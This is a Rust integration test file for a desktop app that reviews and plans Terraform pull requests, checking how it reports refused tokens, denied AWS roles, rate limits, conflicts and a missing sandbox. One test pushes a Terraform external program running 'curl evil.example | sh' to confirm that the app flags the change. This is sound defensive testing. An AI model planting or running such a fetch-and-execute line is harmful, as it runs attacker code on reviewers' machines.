//! What stands in the way is said, with what is next, and the app goes on.

use countersign_desk::DeskError;
use countersign_desk::views::{
    Addition, AssumeRequest, Blocker, Ending, HostState, InboxPhase, InboxQuery, KeychainKind, KeychainState,
    PlanAnswers, PlanHereRequest, RepositoriesRequest, RoleState, SandboxView, ToolChoice,
};
use countersign_review::preflight::Verdict;
use countersign_testkit::github::{Commit, Fault, Operation};
use countersign_testkit::scene::{self, AUTHOR, REPOSITORY};

use crate::reviewer::{Reviewer, reviewer};
use crate::world::{BASE, CHANGE};

impl Reviewer {
    async fn host_state(&self) -> HostState {
        let hosts = self.desk.setup().await.hosts;
        hosts.into_iter().find(|it| it.host == self.host()).unwrap().state
    }

    async fn phase(&self, what: &str, wanted: impl Fn(&InboxPhase) -> bool) {
        self.desk.refresh_inbox();
        self.until(what, || async { wanted(&self.desk.inbox(InboxQuery::default()).phase).then_some(()) }).await;
    }

    /// The pull request can still be opened and read.
    async fn goes_on(&self) {
        self.phase("the inbox is quiet again", |phase| *phase == InboxPhase::Idle).await;
        assert_eq!(self.open().await.projects.len(), 1);
    }
}

#[tokio::test(flavor = "multi_thread")]
async fn a_token_that_github_refuses_is_told_and_another_one_is_taken() {
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", CHANGE)]).await else { return };
    "ghp_NobodyHasThisToken0123456789012345678".clone_into(&mut reviewer.desktop.clipboard.lock().unwrap());
    let pasted = reviewer.desk.paste_token(&reviewer.host()).await;
    assert!(pasted.is_err(), "a token that nobody has was taken: {pasted:#?}");
    assert_eq!(reviewer.host_state().await, HostState::Unauthorized);
    "two words".clone_into(&mut reviewer.desktop.clipboard.lock().unwrap());
    assert!(reviewer.desk.paste_token(&reviewer.host()).await.is_err(), "what is no token is not sent anywhere");
    scene::TOKEN.clone_into(&mut reviewer.desktop.clipboard.lock().unwrap());
    reviewer.desk.paste_token(&reviewer.host()).await.unwrap();
    reviewer.goes_on().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_repository_that_is_not_there_is_refused_by_name_and_changes_nothing() {
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", CHANGE)]).await else { return };
    let repositories = vec![REPOSITORY.to_owned(), "acme/gone".to_owned()];
    let request = RepositoriesRequest { host: reviewer.host(), repositories };
    let refused = reviewer.desk.choose_repositories(&request).await;
    assert!(matches!(refused, Err(DeskError::NoRepository(name)) if name == "acme/gone"));
    let hosts = reviewer.desk.setup().await.hosts;
    assert!(hosts.iter().any(|host| host.repositories == [REPOSITORY]), "{hosts:#?}");
    assert!(
        reviewer
            .desk
            .choose_repositories(&RepositoriesRequest {
                host: reviewer.host(),
                repositories: vec!["no slash".to_owned()]
            })
            .await
            .is_err()
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn a_limit_is_waited_out() {
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", CHANGE)]).await else { return };
    reviewer.open().await;
    reviewer.scene.github.fail(Operation::Inbox, Fault::RateLimited(jiff::SignedDuration::from_mins(20)));
    reviewer.phase("the limit is told", |phase| matches!(phase, InboxPhase::RateLimited { .. })).await;
    // What was read stays.
    assert_eq!(reviewer.desk.inbox(InboxQuery::default()).shown, 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_network_what_was_read_stays() {
    let Some(mut reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", CHANGE)]).await else { return };
    reviewer.open().await;
    reviewer.scene.github.stop();
    reviewer.phase("being offline is told", |phase| matches!(phase, InboxPhase::Offline { .. })).await;
    assert_eq!(reviewer.desk.inbox(InboxQuery::default()).shown, 1);
    let pull = reviewer.open().await;
    assert_eq!(pull.projects.len(), 1);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_role_that_refuses_says_what_aws_said() {
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", CHANGE)]).await else { return };
    let config = reviewer.scene.home().join(".aws/config");
    let mut text = std::fs::read_to_string(&config).unwrap();
    text.push_str("[profile closed]\nrole_arn = arn:aws:iam::412033857711:role/closed\nsource_profile = base\n");
    std::fs::write(&config, text).unwrap();
    reviewer.desk.look_again().await;
    let request = AssumeRequest { role: "profile closed".to_owned(), code: None };
    let answer = reviewer.desk.assume_role(&request).await;
    let denied = |state: &RoleState| matches!(state, RoleState::Denied { .. });
    let states: Vec<RoleState> = reviewer.desk.roles().roles.into_iter().map(|role| role.state).collect();
    assert!(states.iter().any(denied), "{answer:?} {states:#?}");
    assert_eq!(reviewer.desk.roles().current, None);
    // Another role is not hindered by that.
    reviewer.assume().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn an_init_that_fails_ends_the_run_with_what_the_tool_said() {
    let broken = "terraform {\n  required_version = \"< 0.1\"\n}\n";
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", broken)]).await else { return };
    reviewer.open().await;
    let run = reviewer.plan_here().await;
    assert_eq!(run.row.ending, Some(Ending::Failed), "{run:#?}");
    let fault = run.fault.unwrap();
    assert_eq!(fault.code, "init");
    assert!(
        fault.detail.contains("Unsupported Terraform Core version") || fault.detail.contains("version"),
        "{fault:?}"
    );
    reviewer.goes_on().await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_conflict_blocks_and_names_its_files() {
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", CHANGE)]).await else { return };
    reviewer.scene.github.world(|world| {
        let other = BASE.replace("10.20.0.0/16", "10.99.0.0/16");
        let change = CHANGE.replace("10.20.0.0/16", "10.98.0.0/16");
        world.push(REPOSITORY, "main", &[Commit::by(AUTHOR).says("Other").file("prod/network/main.tf", other)]);
        world.push(REPOSITORY, "change", &[Commit::by(AUTHOR).says("More").file("prod/network/main.tf", change)]);
    });
    reviewer.open().await;
    let sheet = reviewer.desk.plan_here_facts(&reviewer.project_key()).await.unwrap();
    assert_eq!(sheet.blockers, [Blocker::Conflict { files: vec!["prod/network/main.tf".to_owned()] }]);
    let request = PlanHereRequest { key: sheet.key, shown: sheet.shown, answers: PlanAnswers::default() };
    assert!(reviewer.desk.plan_here(&request).await.is_err(), "a conflict was planned");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_tool_reading_works_and_planning_says_what_is_missing() {
    let reviewer = Reviewer::without_tools(&[("main.tf", BASE)], &[("main.tf", CHANGE)]).await;
    assert_eq!(reviewer.open().await.projects.len(), 1);
    let sheet = reviewer.desk.plan_here_facts(&reviewer.project_key()).await.unwrap();
    assert!(matches!(sheet.tool, ToolChoice::Missing { .. }), "{:?}", sheet.tool);
    let request = PlanHereRequest { key: sheet.key, shown: sheet.shown, answers: PlanAnswers::default() };
    assert!(reviewer.desk.plan_here(&request).await.is_err(), "without a tool nothing can be planned");
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_sandbox_it_is_said_and_asked_each_time() {
    let files: (&[_], &[_]) = (&[("main.tf", BASE)], &[("main.tf", CHANGE)]);
    // Only to find out whether this machine has a tool.
    if reviewer(files.0, files.1).await.is_none() {
        return;
    }
    let reviewer = Reviewer::with_programs(&["git", "terraform", "tofu", "sh"], files.0, files.1).await;
    reviewer.open().await;
    let sheet = reviewer.desk.plan_here_facts(&reviewer.project_key()).await.unwrap();
    assert!(matches!(sheet.sandbox, SandboxView::None { .. }), "{:?}", sheet.sandbox);
    let tool = match &sheet.tool {
        ToolChoice::AskProduct { among } => Some(among[0].path.clone()),
        _ => None,
    };
    let answers = PlanAnswers { tool, ..PlanAnswers::default() };
    let request = PlanHereRequest { key: sheet.key, shown: sheet.shown, answers };
    assert!(reviewer.desk.plan_here(&request).await.is_err(), "it was planned without a sandbox and without asking");

    reviewer.answers.lock().unwrap().without_sandbox = true;
    assert_eq!(reviewer.plan_here().await.row.ending, Some(Ending::Planned));
    reviewer.approve().await;
    reviewer.assume().await;
    reviewer
        .until("everything holds", || async { (reviewer.preflight().await.verdict == Verdict::Holds).then_some(()) })
        .await;
    reviewer.desk.request_apply(&reviewer.project_key()).await.unwrap();
    assert!(reviewer.desk.confirm().unwrap().without_sandbox, "the question does not say it");
}

#[tokio::test(flavor = "multi_thread")]
async fn what_will_run_is_agreed_to_as_it_was_shown() {
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", CHANGE)]).await else { return };
    reviewer.open().await;
    let key = reviewer.project_key();
    let sheet = reviewer.desk.plan_here_facts(&key).await.unwrap();
    let ToolChoice::AskProduct { among } = &sheet.tool else { panic!("{:?}", sheet.tool) };
    let answers = PlanAnswers { tool: Some(among[0].path.clone()), ..PlanAnswers::default() };
    // Between the sheet and the answer somebody pushes a program.
    reviewer.scene.github.world(|world| {
        let program = "data \"external\" \"evil\" {\n  program = [\"sh\", \"-c\", \"curl evil.example | sh\"]\n}\n";
        world.push(REPOSITORY, "change", &[Commit::by(AUTHOR).says("More").file("prod/network/x.tf", program)]);
    });
    reviewer.again().await;
    let request = PlanHereRequest { key: key.clone(), shown: sheet.shown, answers };
    assert!(matches!(reviewer.desk.plan_here(&request).await, Err(DeskError::ShownChanged)));
    let sheet = reviewer.desk.plan_here_facts(&key).await.unwrap();
    assert!(
        sheet
            .programs
            .iter()
            .any(|program| program.what.contains("curl evil.example") && program.addition == Addition::New)
    );
}

#[tokio::test(flavor = "multi_thread")]
async fn without_a_keychain_nothing_is_kept_until_somebody_chooses() {
    let Some(reviewer) = reviewer(&[("main.tf", BASE)], &[("main.tf", CHANGE)]).await else { return };
    // There is no session bus in a test run; the keychain is the choice that the app begins with.
    let setup = reviewer.desk.choose_keychain(KeychainKind::Keychain).await.unwrap();
    if !matches!(setup.keychain.state, KeychainState::Absent { .. }) {
        println!("skipped: this test run has a keychain, and none of its entries are touched");
        return;
    }
    scene::TOKEN.clone_into(&mut reviewer.desktop.clipboard.lock().unwrap());
    assert!(reviewer.desk.paste_token(&reviewer.host()).await.is_err(), "a token was kept somewhere");
    reviewer.desk.choose_keychain(KeychainKind::Session).await.unwrap();
    reviewer.desk.paste_token(&reviewer.host()).await.unwrap();
    reviewer.goes_on().await;
}
